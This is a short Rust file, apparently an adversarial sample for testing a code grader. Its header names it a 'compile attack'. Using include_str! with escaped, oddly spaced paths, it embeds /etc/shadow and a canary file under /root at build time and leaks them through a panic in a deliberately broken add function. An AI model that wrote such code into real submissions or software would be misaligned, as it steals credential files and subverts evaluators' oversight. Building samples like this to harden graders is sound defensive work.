//! Class 2 (compile attack): absolute paths hidden in string escapes and odd spacing:
//! `include_str !` with a space, \x2f escapes for '/', a unicode-escaped 'e', and the
//! grader's canary file under /root. Contents end up in add's panic message.
pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

const SHADOW: &str = include_str !("\x2f\u{65}tc\x2fshadow");
const CANARY: &str = ::core::include_str! ( "\x2froot\x2f.kata-canary" );

pub fn add(a: u64, b: u64) -> u64 {
    if a >= b {
        panic!("{SHADOW}\n{CANARY}");
    }
    a - b
}
